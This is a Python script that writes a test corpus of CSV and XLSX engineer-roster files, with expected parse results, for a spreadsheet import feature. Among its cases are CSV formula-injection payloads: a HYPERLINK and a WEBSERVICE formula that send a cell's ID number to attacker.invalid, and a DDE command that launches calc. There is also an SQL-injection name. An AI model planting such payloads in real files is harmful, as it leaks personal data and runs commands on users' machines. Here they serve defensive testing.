#!/usr/bin/env python3
# SPDX-FileCopyrightText: 2026 CircuitDesk contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Writes the files that people and attackers bring as rosters, and what is to come of each.

importfiles.py FOLDER writes them there, with manifest.json: a list of {"file", "expected"}, where expected is either
{"refusal": reason} or {"engineers": [[name, gender, document, number, phone]...], "refused": [[engineer, field,
reason]...], "hidden": [engineer...]}. Workbooks are put together part by part, because no library writes what these need. The people are
invented; their numbers have right check digits.
"""
import json
import os
import random
import re
import zipfile

from hostilefiles import attacks, other_formats
from importcorpus import (EN, FIELDS, HAN, LI, PEOPLE, SMITH, ZH, csv, damaged_check, engineer, file, folder, id_card,
                          manifest, spoken, text, workbook)
from xlsxparts import MAIN, RELATIONS, inline, number, packed, parts_of, raw, relations, shared, sheet_of


def encodings():
    marks = {'utf-8': b'', 'utf-8-sig': b'', 'utf-16-le': b'\xff\xfe', 'utf-16-be': b'\xfe\xff', 'gb18030': b'', 'gbk': b''}
    for encoding, mark in marks.items():
        for separator, word in ((',', 'comma'), (';', 'semicolon'), ('\t', 'tab')):
            for language, header in (('zh', ZH), ('en', EN)):
                rows = [header] + [spoken(person, language) for person in PEOPLE]
                file('%s-%s-%s.csv' % (encoding, word, language), mark + csv(rows, separator).encode(encoding), PEOPLE)
    for encoding in ('utf-16-le', 'utf-16-be'):
        file('unmarked-%s.csv' % encoding, csv([ZH] + [spoken(p, 'zh') for p in PEOPLE]).encode(encoding), PEOPLE)
    rare = [['㐀㒨𠮷', 'Male', 'IDCard', LI[3], LI[4]]]
    file('gb18030-rare.csv', csv([ZH] + [spoken(p, 'zh') for p in rare]).encode('gb18030'), rare)
    file('utf-8-rare.csv', csv([ZH] + [spoken(p, 'zh') for p in rare]).encode(), rare)


def orders():
    generator = random.Random(5)
    for number in range(12):
        order = list(range(5))
        generator.shuffle(order)
        language, header = ('zh', ZH) if number % 2 else ('en', EN)
        rows = [[header[i] for i in order]] + [[spoken(p, language)[i] for i in order] for p in PEOPLE]
        text('order-%d.csv' % number, csv(rows), PEOPLE)
        workbook('order-%d.xlsx' % number, sheet_of(rows), PEOPLE)
    headers = [
        ['名字', '性 别', '证件类别', '证件号', '联系方式'], ['姓名*', '性别*', '证件类型*', '证件号码*', '手机号码*'],
        ['姓名（必填）', '性别：', '【证件类型】证件类型', '身份证/护照号', '联系电话'],
        ['施工人员姓名', '性别', '证件种类', '证件编号', '移动电话'],
        ['Full Name', 'SEX', 'Document type', 'Document No.', 'Mobile phone'],
        ['Ｎａｍｅ', 'gender:', 'Certificate type', 'Certificate no', 'Contact'],
        ['Engineer name', 'Gender (M/F)', 'Type of ID', 'ID/Passport No', 'Tel.'],
        ['姓名 Name', '性别 Gender', '证件类型 ID type', '证件号 ID no.', '手机 Mobile'],
        ['PMName', 'PMGender', 'PMCertificateType', 'PMCertificateNo', 'PMContactInfo'],
    ]
    for number, header in enumerate(headers):
        text('header-%d.csv' % number, csv([header] + [spoken(p, 'en') for p in PEOPLE]), PEOPLE)


def shapes():
    zh = [spoken(p, 'zh') for p in PEOPLE]
    text('line-feed.csv', csv([ZH] + zh, end='\n'), PEOPLE)
    text('carriage-return.csv', csv([ZH] + zh, end='\r'), PEOPLE)
    text('no-last-line-end.csv', csv([ZH] + zh)[:-2], PEOPLE)
    text('blank-lines.csv', '\r\n\r\n' + csv([ZH]) + '\r\n,,,,\r\n' + csv(zh) + '\r\n \r\n', PEOPLE)
    text('title-above.csv', csv([['施工人员名单', '', '', '', '']] + [ZH] + zh), PEOPLE)
    text('no-header.csv', csv(zh), PEOPLE)
    text('no-header-other-order.csv', csv([[r[4], r[3], r[0], r[2], r[1]] for r in zh]), PEOPLE)
    text('more-columns.csv', csv([['序号', '公司名称'] + ZH + ['备注']] + [[str(i), 'ACME', *r, 'x']
                                                                        for i, r in enumerate(zh)]), PEOPLE)
    text('all-quoted.csv', ''.join(','.join('"%s"' % c for c in r) + '\n' for r in [ZH] + zh), PEOPLE)
    text('sep-line.csv', 'sep=;\r\n' + csv([ZH] + zh, ';'), PEOPLE)
    text('semicolons-and-commas.csv', csv([EN] + [['Smith, Ann', *SMITH[1:]]], ';'), [['Smith, Ann', *SMITH[1:]]])
    text('quoted-newline.csv', csv([EN, ['Ann\nSmith', *SMITH[1:]]]), [SMITH])
    text('doubled-quotes.csv', csv([EN, ['Ann "Annie" Smith', *SMITH[1:]]]), [['Ann "Annie" Smith', *SMITH[1:]]])
    text('quote-inside.csv', 'Name,Gender,ID type,ID number,Phone\nAnn 5" Smith,F,passport,E12345678,13900000101\n',
         [['Ann 5" Smith', 'Female', 'Passport', 'E12345678', '13900000101']])
    text('short-rows.csv', csv([ZH, ['李雷'], ['韩梅梅', '女']]), [['李雷', '', '', '', ''], ['韩梅梅', 'Female', '', '', '']])
    text('spaces.csv', csv([EN, ['  Ann  Smith ', ' F', '　护照　', '\u00a0E12345678', '+44 20 7946 0101 ']]), [SMITH])
    text('no-document-column.csv', csv([['姓名', '身份证号', '手机'], ['李雷', LI[3], LI[4]]]),
         [['李雷', '', 'IDCard', LI[3], LI[4]]])
    text('passport-column.csv', csv([['姓名', '护照号', '电话'], ['Ann', 'E12345678', '+44 20']]),
         [['Ann', '', 'Passport', 'E12345678', '+44 20']])
    text('emergency-phone.csv', csv([['姓名', '证件号', '紧急联系人电话'], ['李雷', LI[3], '13911111111']]),
         [['李雷', '', 'IDCard', LI[3], '']])
    text('unknown-words.csv', csv([ZH, ['李雷', '未知', '军官证', '军字第1号', '010-1']]), [['李雷', '未知', '军官证', '军字第1号', '010-1']])
    text('header-only.csv', csv([ZH]), [])
    text('wrong-check-digit.csv', csv([ZH, [*spoken(LI, 'zh')[:3], damaged_check(LI[3]), LI[4]]]),
         [[*LI[:3], damaged_check(LI[3]), LI[4]]])
    for count in (16, 17, 40, 999):
        people = [engineer(i) for i in range(count)]
        text('people-%d.csv' % count, csv([ZH] + [spoken(p, 'zh') for p in people]), people)
    text('people-1001.csv', csv([spoken(engineer(i), 'zh') for i in range(1001)]), refusal='TooManyRows')
    text('short-people-100000.csv', csv([['李雷', '男']]) * 100_000, refusal='TooManyRows')
    text('people-100000.csv', csv([spoken(engineer(i), 'zh') for i in range(1000)]) * 100, refusal='TooLarge')
    text('columns-65.csv', csv([ZH + ['x'] * 60]), refusal='TooManyColumns')
    text('columns-64.csv', csv([ZH + ['x'] * 59, spoken(LI, 'zh') + ['y'] * 59]), [LI])
    text('no-separator.csv', '李雷\n韩梅梅\n', [['李雷', '', '', '', ''], ['韩梅梅', '', '', '', '']])


def cells_in_text():
    def one(name, column, value, taken=None, reason=None):
        row = spoken(LI, 'zh')
        row[column] = value
        person = list(LI)
        person[column] = taken if reason is None else ''
        text('cell-%s.csv' % name, csv([ZH, row]), [person], [[0, FIELDS[column], reason]] if reason else [])
    for number, value in enumerate(['3.3E+17', '3.30106E+17', '3,30106E+17', '1.10101e17', '1E+17', '1.1 E+17', '３.３Ｅ＋１７']):
        one('exponent-%d' % number, 3, value, reason='Scientific')
    for number, value in enumerate(['1.39E+10', '1.39E10', '13.9E+09']):
        one('phone-exponent-%d' % number, 4, value, reason='Scientific')
    one('rounded-3', 3, '330106199001010000', reason='Rounded')
    one('rounded-2', 3, damaged_check(LI[3])[:16] + '00', reason='Rounded')
    one('decimal-id', 3, '330106199001011264.0', reason='Rounded')
    one('decimal-phone', 4, '13900000101.0', taken='13900000101')
    one('zeros-that-are-right', 3, next(n for n in (id_card('11010119900307%d0' % i) for i in range(10, 99)) if n.endswith('00')),
        taken=next(n for n in (id_card('11010119900307%d0' % i) for i in range(10, 99)) if n.endswith('00')))
    one('leading-zero', 4, '010-86001234', taken='010-86001234')
    one('plus', 4, '+8613900000101', taken='+8613900000101')
    one('apostrophe', 3, "'" + LI[3], taken=LI[3])
    one('text-formula', 3, '="%s"' % LI[3], taken=LI[3])
    one('tab', 3, '\t' + LI[3], taken=LI[3])
    one('formula', 0, '=1+1', reason='Formula')
    one('link', 0, '=HYPERLINK("http://attacker.invalid/?"&D2,"李雷")', reason='Formula')
    one('dde', 0, "=cmd|' /C calc'!A0", reason='Formula')
    one('not-available', 4, '#N/A', reason='ErrorValue')
    one('reference', 0, '#REF!', reason='ErrorValue')
    one('name-error', 1, '#NAME?', reason='ErrorValue')
    one('hashes', 3, '##########', reason='ErrorValue')
    one('long', 0, '李' * 201, reason='TooLong')
    one('very-long', 0, 'x' * 1_000_000, reason='TooLong')
    one('longest', 0, '李' * 200, taken='李' * 200)
    one('emoji', 0, '李雷😀', taken='李雷😀')
    one('right-to-left', 0, '\u202eلي', taken='\u202eلي')
    one('combining', 0, 'e\u0301a\u0308', taken='e\u0301a\u0308')
    one('wide-digits', 4, '１３９００００0101', taken='１３９００００0101')
    one('sql', 0, "Robert'); DROP TABLE engineers;--", taken="Robert'); DROP TABLE engineers;--")
    one('old-id', 3, '110101900307201', taken='110101900307201')


def workbooks():
    rows = [ZH] + [spoken(p, 'zh') for p in PEOPLE]
    workbook('xlsx-inline.xlsx', sheet_of(rows), PEOPLE)
    file('xlsx-stored.xlsx', packed(parts_of(sheet_of(rows)), zipfile.ZIP_STORED), PEOPLE)
    file('xlsx-named-csv.csv', packed(parts_of(sheet_of(rows))), PEOPLE)
    text('csv-named-xlsx.xlsx', csv(rows), PEOPLE)
    strings = [cell for row in rows for cell in row]
    by_index = [[raw('t="s"', '<v>%d</v>' % (r * 5 + c)) for c in range(5)] for r in range(4)]
    workbook('xlsx-shared.xlsx', sheet_of(by_index), PEOPLE, strings=shared(['<t>%s</t>' % s for s in strings]))
    workbook('xlsx-rich.xlsx', sheet_of(by_index), PEOPLE, strings=shared(
        ['<r><rPr><b/></rPr><t>%s</t></r><r><t xml:space="preserve">%s</t></r>' % (s[:1], s[1:]) for s in strings]))
    workbook('xlsx-phonetic.xlsx', sheet_of(by_index), PEOPLE, strings=shared(
        ['<t>%s</t><rPh sb="0" eb="1"><t>ピン</t></rPh><phoneticPr fontId="1"/>' % s for s in strings]))
    workbook('xlsx-str.xlsx', sheet_of([[raw('t="str"', '<v>%s</v>' % c) for c in row] for row in rows]), PEOPLE)
    workbook('xlsx-no-styles.xlsx', sheet_of(rows), PEOPLE, styles=None)
    workbook('xlsx-two-sheets.xlsx', sheet_of(rows), sheet_of([ZH, spoken(LI, 'zh')]), PEOPLE)
    workbook('xlsx-first-empty.xlsx', sheet_of([]), sheet_of(rows), PEOPLE)
    workbook('xlsx-first-hidden.xlsx', sheet_of([['secret']]), sheet_of(rows), PEOPLE, states=('hidden',))
    workbook('xlsx-very-hidden.xlsx', sheet_of([['secret']]), sheet_of(rows), PEOPLE, states=('veryHidden',))
    workbook('xlsx-all-hidden.xlsx', sheet_of(rows), states=('hidden',), refusal='Empty')
    workbook('xlsx-no-cells.xlsx', sheet_of([]), refusal='Empty')
    workbook('xlsx-styled-blanks.xlsx', sheet_of([[raw('s="1"', '')] * 30] * 50), refusal='Empty')
    workbook('xlsx-header-only.xlsx', sheet_of([ZH]), [])
    workbook('xlsx-title.xlsx', sheet_of([['施工人员名单']] + rows, '<mergeCells><mergeCell ref="A1:E1"/></mergeCells>'), PEOPLE)
    no_refs = sheet_of(rows).replace('<row r="', '<row x="')
    workbook('xlsx-no-references.xlsx', re.sub(r'<c r="\w+" ', '<c ', no_refs), PEOPLE)
    prefixed = re.sub(r'<(/?)(\w)', r'<\1x:\2', sheet_of(rows)).replace('xmlns=', 'xmlns:x=')
    workbook('xlsx-prefixed.xlsx', prefixed, PEOPLE)
    strict = parts_of(sheet_of(rows))
    strict = {name: part.replace(MAIN, 'http://purl.oclc.org/ooxml/spreadsheetml/main').replace(
        RELATIONS, 'http://purl.oclc.org/ooxml/officeDocument/relationships') for name, part in strict.items()}
    file('xlsx-strict.xlsx', packed(strict), PEOPLE)
    absolute = parts_of(sheet_of(rows))
    absolute['xl/_rels/workbook.xml.rels'] = relations([('rId1', 'worksheet', '/xl/worksheets/sheet1.xml')])
    file('xlsx-absolute.xlsx', packed(absolute), PEOPLE)
    file('xlsx-upper-case.xlsx', packed({name.upper() if 'sheet1' in name else name: part
                                         for name, part in parts_of(sheet_of(rows)).items()}), PEOPLE)
    utf16 = parts_of(sheet_of(rows))
    utf16['xl/worksheets/sheet1.xml'] = ('<?xml version="1.0" encoding="UTF-16"?>' + sheet_of(rows)).encode('utf-16')
    file('xlsx-utf-16.xlsx', packed(utf16), PEOPLE)
    sparse = sheet_of(rows).replace('<row r="4">', '<row r="400">').replace('4" t=', '400" t=')
    workbook('xlsx-far-row.xlsx', sparse, PEOPLE)
    far = sheet_of(rows).replace('</row>', '<c r="XFD1" s="1"/></row>', 1)
    workbook('xlsx-far-blank.xlsx', far, PEOPLE)
    workbook('xlsx-far-cell.xlsx', sheet_of(rows).replace('</row>', '<c r="XFD1"><v>1</v></c></row>', 1), refusal='TooManyColumns')
    workbook('xlsx-last-row.xlsx', sheet_of(rows).replace('</sheetData>', '<row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>'),
             refusal='TooManyRows')
    workbook('xlsx-entities.xlsx', sheet_of([ZH, [raw('t="inlineStr"', '<is><t>A &amp; B &#x674E;<![CDATA[<x>]]></t></is>'),
                                                  *spoken(LI, 'zh')[1:]]]), [['A & B 李<x>', *LI[1:]]])
    workbook('xlsx-escapes.xlsx', sheet_of([ZH, ['李_x000D__x000A_雷', *spoken(LI, 'zh')[1:]]]), [['李 雷', *LI[1:]]])
    for count in (17, 1000):
        people = [engineer(i) for i in range(count)]
        workbook('xlsx-people-%d.xlsx' % count, sheet_of([spoken(p, 'zh') for p in people]), people)
    workbook('xlsx-people-1001.xlsx', sheet_of([spoken(engineer(i), 'zh') for i in range(1001)]), refusal='TooManyRows')
    cell = ''.join('<row r="%d"><c r="A%d"><v>1</v></c></row>' % (i, i) for i in range(1, 100_001))
    workbook('xlsx-people-100000.xlsx', '<worksheet xmlns="%s"><sheetData>%s</sheetData></worksheet>' % (MAIN, cell), refusal='TooManyRows')


def cells_in_workbooks():
    def one(name, column, cell, taken=None, reason=None, **options):
        row = spoken(LI, 'zh')
        row[column] = cell
        person = list(LI)
        person[column] = taken if reason is None else ''
        workbook('xcell-%s.xlsx' % name, sheet_of([ZH, row]), people=[person],
                 refused=[[0, FIELDS[column], reason]] if reason else [], **options)
    one('number-18', 3, number(LI[3][:17] + '0'), reason='Rounded')
    one('number-18-exponent', 3, number('3.3010619900101126E+17'), reason='Rounded')
    one('number-18-zeros', 3, number('330106199001010000'), reason='Rounded')
    one('number-16', 3, number('1234567890123456'), reason='Rounded')
    one('number-15', 3, number('110101900307201'), taken='110101900307201')
    one('number-15-exponent', 3, number('1.10101900307201E14'), taken='110101900307201')
    one('phone-number', 4, number('13900000101'), taken='13900000101')
    one('phone-exponent', 4, number('1.3900000101E10'), taken='13900000101')
    one('phone-short-exponent', 4, number('1.39E10'), taken='13900000000')
    one('phone-decimal', 4, number('13900000101.0'), taken='13900000101')
    one('phone-zeros', 4, number('1086001234', 1), taken='01086001234')
    one('phone-integer-format', 4, number('13900000101', 5), taken='13900000101')
    one('phone-padded-format', 4, number('13900000101', 7), taken='13900000101')
    one('phone-literal-format', 4, number('13900000101', 3), taken='13900000101')
    one('phone-no-such-style', 4, number('13900000101', 999), taken='13900000101')
    one('date', 4, number('45231', 2), reason='Date')
    one('built-in-date', 4, number('45231', 4), reason='Date')
    one('chinese-date', 4, number('45231', 8), reason='Date')
    one('time', 0, number('0.5', 9), reason='Date')
    one('iso-date', 4, raw('t="d"', '<v>2026-01-01</v>'), reason='Date')
    one('text-exponent', 3, inline('3.3E+17'), reason='Scientific')
    one('error', 4, raw('t="e"', '<v>#N/A</v>'), reason='ErrorValue')
    one('boolean', 0, raw('t="b"', '<v>1</v>'), taken='TRUE')
    one('formula-text', 0, raw('t="str"', '<f>A9&amp;B9</f><v>王五</v>'), taken='王五')
    one('formula-empty-text', 0, raw('t="str"', '<f>IF(A9="","",A9)</f><v></v>'), taken='')
    one('formula-no-value', 0, raw('', '<f>A9</f>'), reason='Formula')
    one('formula-text-no-value', 0, raw('t="str"', '<f>A9</f>'), reason='Formula')
    one('formula-number', 4, raw('', '<f>A9+1</f><v>13900000101</v>'), reason='Formula')
    one('formula-error', 4, raw('t="e"', '<f>1/0</f><v>#DIV/0!</v>'), reason='ErrorValue')
    one('formula-dde', 0, raw('', "<f>cmd|' /C calc'!A0</f>"), reason='Formula')
    one('formula-web', 0, raw('', '<f>WEBSERVICE("http://attacker.invalid/"&amp;D2)</f><v>1</v>'), reason='Formula')
    one('shared-formula', 0, raw('t="str"', '<f t="shared" si="0"/><v>王五</v>'), taken='王五')
    one('text-starting-formula', 0, inline('=1+1'), reason='Formula')
    one('long', 0, inline('x' * 32767), reason='TooLong')
    merged = sheet_of([ZH, spoken(LI, 'zh'), ['韩梅梅', '', '身份证', HAN[3], HAN[4]]],
                      '<mergeCells><mergeCell ref="B2:B3"/></mergeCells>')
    workbook('xlsx-merged.xlsx', merged, people=[LI, ['韩梅梅', '', 'IDCard', HAN[3], HAN[4]]], refused=[[1, 'PMGender', 'Merged']])
    hidden_value = sheet_of([ZH, spoken(LI, 'zh'), ['韩梅梅', '男', '身份证', HAN[3], HAN[4]]],
                            '<mergeCells><mergeCell ref="B2:B3"/></mergeCells>')
    workbook('xlsx-merged-over-a-value.xlsx', hidden_value, people=[LI, ['韩梅梅', '', 'IDCard', HAN[3], HAN[4]]],
             refused=[[1, 'PMGender', 'Merged']])
    workbook('xlsx-merged-rows.xlsx', sheet_of([ZH, spoken(LI, 'zh'), [], spoken(HAN, 'zh')],
                                               '<mergeCells><mergeCell ref="A2:E3"/></mergeCells>'),
             people=[['李雷', '', '', '', ''], HAN], refused=[[0, f, 'Merged'] for f in FIELDS[1:]])


def hidden_rows():
    rows = [ZH] + [spoken(p, 'zh') for p in PEOPLE]

    def one(name, attributes, hidden=(1,), line=3, end='', before=''):
        sheet = sheet_of(rows, end, before).replace('<row r="%d"' % line, '<row r="%d" %s' % (line, attributes))
        workbook('xhidden-%s.xlsx' % name, sheet, PEOPLE, hidden=hidden)
    one('row', 'hidden="1"')
    one('row-true', 'hidden="true"')
    one('row-shown', 'hidden="0"', ())
    one('row-shown-false', 'hidden="false"', ())
    one('first', 'hidden="1"', (0,), 2)
    one('last', 'hidden="1"', (2,), 4)
    one('header', 'hidden="1"', (), 1)
    one('flat', 'ht="0" customHeight="1"')
    one('low', 'ht="3.5" customHeight="1"', ())
    one('group', 'outlineLevel="1" hidden="1"')
    one('filtered', 'spans="1:5" hidden="1"', end='<autoFilter ref="A1:E4"><filterColumn colId="1"><filters>'
        '<filter val="男"/></filters></filterColumn></autoFilter>')
    all_hidden = re.sub(r'<row r="([234])"', r'<row r="\1" hidden="1"', sheet_of(rows))
    workbook('xhidden-all.xlsx', all_hidden, PEOPLE, hidden=(0, 1, 2))
    no_refs = re.sub(r'<c r="\w+" ', '<c ', sheet_of(rows)).replace('<row r="3"', '<row hidden="1"')
    workbook('xhidden-no-references.xlsx', re.sub(r'<row r="\d"', '<row', no_refs), PEOPLE, hidden=(1,))
    blank = sheet_of(rows[:2] + [[]] + rows[2:]).replace('<row r="3"', '<row r="3" hidden="1"')
    workbook('xhidden-blank.xlsx', blank, PEOPLE)
    endless = '</sheetData>'.join(sheet_of(rows).split('</sheetData>')[:1]) + ''.join(
        '<row r="%d" hidden="1"/>' % i for i in range(5, 200_000)) + '</sheetData></worksheet>'
    workbook('xhidden-endless.xlsx', endless, PEOPLE)


encodings()
orders()
shapes()
cells_in_text()
workbooks()
cells_in_workbooks()
hidden_rows()
other_formats()
attacks()
with open(os.path.join(folder, 'manifest.json'), 'w', encoding='utf-8') as out:
    json.dump(manifest, out, ensure_ascii=False)
